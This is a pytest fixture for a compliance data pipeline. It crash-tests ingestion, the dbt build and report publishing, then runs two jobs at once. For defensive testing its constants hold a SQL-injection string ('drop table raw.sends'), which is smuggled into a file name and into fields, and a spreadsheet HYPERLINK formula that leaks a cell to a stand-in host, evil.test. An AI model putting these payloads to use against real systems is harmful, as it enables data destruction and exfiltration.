"""The reliability suite's shared, slow scenario: crashes, then two runs at once, on the demo.

One demo landing folder (`softspam demo --scale 200`) plus a file of hostile sends goes through:
run A killed (SIGKILL) inside the ingestion of a sends file; run B killed during the dbt build;
run C killed while publishing the reports; then runs D1 and D2 started together while a reader
polls the published files. The tests read what each step left behind.
"""

from __future__ import annotations

import csv
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from reliability_helpers import PAUSED, SOFTSPAM, clean_env, csv_text, query, start_run, tree_digest

from orchestration.assets.dbt import dbt_target_for

HOSTILE_SENDS_FILE = "sends/hostile \"quoted\" 'x'); drop table raw.sends; -- àé 日本 v1..2.csv"
FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
INJECTION = "x'); drop table raw.sends; --"
OVERLONG_ADDRESS = "a" * 300 + "@overlong.example.test"
HOSTILE_SENDS = [
    ["send_id", "campaign_id", "channel", "email", "promoted_category", "legal_basis", "sent_at"]
    + ["has_opt_out_link", "source_system"],
    # no sale for this address: NO_SALE_RELATIONSHIP
    [INJECTION, INJECTION, "email", "injection@hostile.example.test", "audio", "soft_spam"]
    + ["2026-03-01 10:00", "true", "hostile_esp"],
    # consent basis without consent, no opt-out: CONSENT_MISSING and NO_OPT_OUT_LINK
    ["H-FORMULA", FORMULA, "email", "not-an-address", "audio", "consent", "2026-03-01 10:00"]
    + ["false", "hostile_esp"],
    # no sale for this (overlong) address: NO_SALE_RELATIONSHIP
    ["H-OVERLONG", "c1", "email", OVERLONG_ADDRESS, "audio", "soft_spam", "2026-03-01 10:00"]
    + ["true", "hostile_esp"],
]
HOSTILE_VIOLATIONS = {
    (INJECTION, "hostile_esp", "NO_SALE_RELATIONSHIP"),
    ("H-FORMULA", "hostile_esp", "CONSENT_MISSING"),
    ("H-FORMULA", "hostile_esp", "NO_OPT_OUT_LINK"),
    ("H-OVERLONG", "hostile_esp", "NO_SALE_RELATIONSHIP"),
}


def _watch_published(output: Path, stop: threading.Event, seen: dict[str, Any]) -> None:
    """Read report.html and violations.csv over and over; note any read that is not whole."""
    while not stop.is_set():
        for name in ("report.html", "violations.csv"):
            path = output / name
            try:
                text = path.read_text(encoding="utf-8")
            except FileNotFoundError:
                continue
            seen["reads"] += 1
            if name == "report.html":
                whole = text.rstrip().endswith("</html>")
            else:
                rows = list(csv.reader(text.splitlines()))
                whole = text.endswith("\n") and bool(rows) and rows[0][:1] != [""]
                whole = whole and len({len(row) for row in rows}) == 1
            if not whole:
                seen["partial"].append((name, len(text)))
        time.sleep(0.02)


@pytest.fixture(scope="session")
def lifecycle(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("lifecycle")
    landing, output = root / "landing", root / "output"
    warehouse = root / "warehouse" / "softspam.duckdb"
    state: dict[str, Any] = {"root": root, "landing": landing, "output": output, "warehouse": warehouse}
    demo = subprocess.run(
        [SOFTSPAM, "demo", "--scale", "200", "--out", str(landing)],
        env=clean_env(),
        cwd=root,
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    (landing / HOSTILE_SENDS_FILE).write_text(csv_text(HOSTILE_SENDS), encoding="utf-8")
    state["captured"] = [demo.stdout, demo.stderr]
    state["landing_before"] = tree_digest(landing)
    dbt_log = dbt_target_for(warehouse) / "dbt.log"  # dbt writes its log beside its target
    state["dbt_log_offset"] = dbt_log.stat().st_size if dbt_log.exists() else 0

    def ledger() -> list[tuple[Any, ...]]:
        return query(
            warehouse, "select file_name, kind, rows_read, rows_loaded, rows_quarantined from raw.load_ledger"
        )

    # A: killed inside the transaction of the first sends file
    run_a = start_run(root, landing, warehouse, output, SOFTSPAM_PAUSE_AT="ingest:sends")
    run_a.wait_for_stderr(PAUSED.format(point="ingest:sends"))
    run_a.kill()
    state["a"] = {"ledger": ledger(), "sends": query(warehouse, "select count(*) from raw.sends")[0][0]}

    # B: killed while dbt builds (its first node done, the others under way)
    run_b = start_run(root, landing, warehouse, output, SOFTSPAM_PAUSE_AT="dbt")
    run_b.wait_for_stderr(PAUSED.format(point="dbt"))
    run_b.kill()
    state["b"] = {"ledger": ledger()}

    # C: killed after report.html was written to its temporary file, before the rename
    run_c = start_run(root, landing, warehouse, output, SOFTSPAM_PAUSE_AT="report")
    run_c.wait_for_stderr(PAUSED.format(point="report"))
    state["c"] = {"pid": run_c.popen.pid, "files": sorted(p.name for p in output.iterdir())}
    temporaries = sorted(output.glob(".report.html.*.tmp"))
    state["c"]["temporary_is_whole"] = [
        p.read_text(encoding="utf-8").rstrip().endswith("</html>") for p in temporaries
    ]
    run_c.kill()
    state["c"]["files_after_kill"] = sorted(p.name for p in output.iterdir())

    # D1 and D2 together, while a reader polls the published deliverables
    stop, seen = threading.Event(), {"reads": 0, "partial": []}
    watcher = threading.Thread(target=_watch_published, args=(output, stop, seen), daemon=True)
    watcher.start()
    runs = [start_run(root, landing, warehouse, output), start_run(root, landing, warehouse, output)]
    for run in runs:
        run.finish(timeout=300)
    stop.set()
    watcher.join(timeout=10)
    state["d"] = {"runs": runs, "seen": seen}
    state["landing_after"] = tree_digest(landing)
    for run in (run_a, run_b, run_c, *runs):
        state["captured"] += [run.stdout, run.stderr]
    if dbt_log.exists():
        with dbt_log.open("rb") as handle:
            size = dbt_log.stat().st_size
            handle.seek(state["dbt_log_offset"] if size >= state["dbt_log_offset"] else 0)
            state["dbt_log"] = handle.read().decode("utf-8", errors="replace")
    return state
